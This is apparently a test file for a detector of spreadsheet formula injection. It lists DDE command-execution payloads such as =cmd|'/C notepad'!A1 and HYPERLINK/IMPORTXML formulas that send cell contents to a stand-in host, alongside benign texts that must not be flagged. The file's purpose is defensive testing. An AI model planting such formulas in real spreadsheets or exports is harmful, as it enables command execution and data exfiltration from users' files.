import { expect, test } from 'bun:test'
import { viewsOf } from '../../../src/hooks/anomaly/decode/index.ts'
import { formulaInjection } from '../../../src/hooks/anomaly/detectors/formula-injection.ts'

const score = (text: string): number =>
  Math.max(...viewsOf(text, 'body').map((view) => formulaInjection(view)))

const attacks: readonly [what: string, text: string][] = [
  ['an exchange with a program', "=cmd|'/C notepad'!A1"],
  ['one behind a sum', "+1+2+cmd|'/C notepad'!A1"],
  ['one behind a function', "@SUM(1)*cmd|'/C notepad'!A1"],
  ['one in a later cell', "anna;=cmd|'/C notepad'!A1"],
  ['one whose cell is quoted', "=cmd|'/C notepad'!'A1'"],
  ['one without quotes', '=cmd|/C notepad!A1'],
  ['a function that exchanges', '=dde("cmd";"/C notepad";"x")'],
  ['a link that takes a cell with it', '=HYPERLINK("https://a.example/?"&A1,"x")'],
  ['a request', '=IMPORTXML(CONCAT("https://a.example/",A1),"//x")'],
]

for (const [what, text] of attacks)
  test(`${what} is found`, () => {
    expect(score(text)).toBeGreaterThanOrEqual(0.5)
  })

const honest = [
  '=SUM(A1:A3)',
  '=IF(A1>3,"x","y")',
  '-5',
  '+49 30 123456',
  '@anna look at this!',
  '- Use `a | b`! Now',
  '| a | b! |',
  "@register('x')",
]

for (const text of honest)
  test(`${text} is honest`, () => {
    expect(score(text)).toBeLessThan(0.5)
  })

test('no text takes long, however it repeats', () => {
  for (const unit of ['=', "=a|'", '=a|', '|!', '\n=', '=HYPERLINK('])
    expect(score(unit.repeat(Math.ceil(100_000 / unit.length)))).toBeLessThanOrEqual(1)
})
